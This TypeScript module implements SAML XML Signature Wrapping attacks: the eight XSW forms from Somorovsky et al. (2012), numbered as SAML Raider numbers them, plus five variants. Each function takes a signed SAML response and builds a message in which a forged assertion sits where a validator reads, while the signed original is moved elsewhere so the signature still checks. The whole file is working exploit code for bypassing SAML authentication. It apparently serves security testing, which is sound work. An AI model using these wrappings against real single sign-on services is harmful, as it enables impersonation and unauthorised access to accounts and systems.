/**
 * Signature wrapping: what is signed is still somewhere in the document, and somebody else's words stand where a careless
 * reader looks. The eight forms of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), by the numbers
 * that SAML Raider has for them, and some of their relatives.
 */
export interface Wrapping {
  /** Which element is signed in the message that is taken apart. */
  of: 'Response' | 'Assertion'
  /** @param forge says something else in the place of what was signed, under another ID */
  wrap(signed: string, forge: (xml: string) => string): string
}

const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

/** Strings of ours hold `$` signs, so replacements are functions. */
const put = (xml: string, place: RegExp | string, text: string) => xml.replace(place, () => text)
const signatureIn = (xml: string) => SIGNATURE.exec(xml)?.[0] ?? ''
const assertionIn = (xml: string) => ASSERTION.exec(xml)?.[0] ?? ''
const bare = (xml: string) => put(xml, SIGNATURE, '')
const inside = (xml: string, text: string, tag: string) => put(xml, new RegExp(`</${tag}>$`), `${text}</${tag}>`)

/** The same message with something else in the place of its assertion. */
const instead = (signed: string, text: string) => put(signed, ASSERTION, text)

const parts = (signed: string, forge: (xml: string) => string) => {
  const original = assertionIn(signed)
  return { original, signature: signatureIn(original), bare: bare(original), evil: forge(bare(original)) }
}

/** The forged assertion with the signature in it, as the original one had it. */
const withSignature = (evil: string, signature: string) => put(evil, '</saml:Issuer>', `</saml:Issuer>${signature}`)

export const WRAPPINGS: Record<string, Wrapping> = {
  'XSW1: the signed response within the signature': {
    of: 'Response',
    wrap: (signed, forge) => {
      const signature = inside(signatureIn(signed), bare(signed), 'ds:Signature')
      return put(forge(bare(signed)), '</saml:Issuer>', `</saml:Issuer>${signature}`)
    },
  },
  'XSW2: the signed response beside the signature': {
    of: 'Response',
    wrap: (signed, forge) =>
      put(forge(bare(signed)), '</saml:Issuer>', `</saml:Issuer>${bare(signed)}${signatureIn(signed)}`),
  },
  'XSW3: a forged assertion before the signed one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      return instead(signed, evil + original)
    },
  },
  'XSW4: the signed assertion within a forged one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      return instead(signed, inside(evil, original, 'saml:Assertion'))
    },
  },
  'XSW5: a forged assertion with the signature, the signed one after it': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { signature, bare: original, evil } = parts(signed, forge)
      return instead(signed, withSignature(evil, signature) + original)
    },
  },
  'XSW6: the signed assertion within the signature of a forged one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { signature, bare: original, evil } = parts(signed, forge)
      return instead(signed, withSignature(evil, inside(signature, original, 'ds:Signature')))
    },
  },
  'XSW7: a forged assertion in extensions': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      return instead(signed, `<samlp:Extensions>${evil}</samlp:Extensions>${original}`)
    },
  },
  'XSW8: the signed assertion in an object of the signature of a forged one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { signature, bare: original, evil } = parts(signed, forge)
      const object = `<ds:Object>${original}</ds:Object>`
      return instead(signed, withSignature(evil, inside(signature, object, 'ds:Signature')))
    },
  },
  'a forged assertion after the signed one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      return instead(signed, original + evil)
    },
  },
  'a forged assertion with the signature over the one in extensions': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { signature, bare: original, evil } = parts(signed, forge)
      return instead(signed, `<samlp:Extensions>${original}</samlp:Extensions>${withSignature(evil, signature)}`)
    },
  },
  'a forged assertion under the ID of the signed one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      const [, id = ''] = /ID="([^"]*)"/.exec(original) ?? []
      return instead(signed, put(evil, /ID="[^"]*"/, `ID="${id}"`) + original)
    },
  },
  'the signature of the assertion as that of the response': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { signature, bare: original, evil } = parts(signed, forge)
      const moved = put(instead(signed, evil + original), '</saml:Issuer>', `</saml:Issuer>${signature}`)
      return moved
    },
  },
  'a forged assertion in another namespace before the signed one': {
    of: 'Assertion',
    wrap: (signed, forge) => {
      const { original, evil } = parts(signed, forge)
      const renamed = evil.replaceAll('saml:', 'x:').replace('xmlns:saml', 'xmlns:x').replace('SAML:2.0:assertion', 'x')
      return instead(signed, renamed + original)
    },
  },
}
